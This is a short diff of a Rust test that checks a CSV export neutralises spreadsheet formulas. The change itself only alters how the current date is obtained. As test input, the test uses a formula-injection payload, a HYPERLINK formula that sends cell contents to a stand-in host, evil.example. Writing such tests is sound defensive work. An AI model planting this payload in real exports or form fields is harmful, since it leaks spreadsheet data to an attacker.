@@ -135,7 +135,7 @@ async fn csv_export_neutralises_formulas() {
     let app = TestApp::spawn().await;
     let village = "53.07.01.2001";
     let fac = app.user_token("fasilitator", "facilitator", Some(village)).await;
-    let today = time::OffsetDateTime::now_utc().date();
+    let today = crate::common::today();
     let day = |n: i64| (today - time::Duration::days(n)).to_string();
     let title = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Klik\")";
     let body = json!({"village_code": village, "topic": "financial_literacy", "title": title,
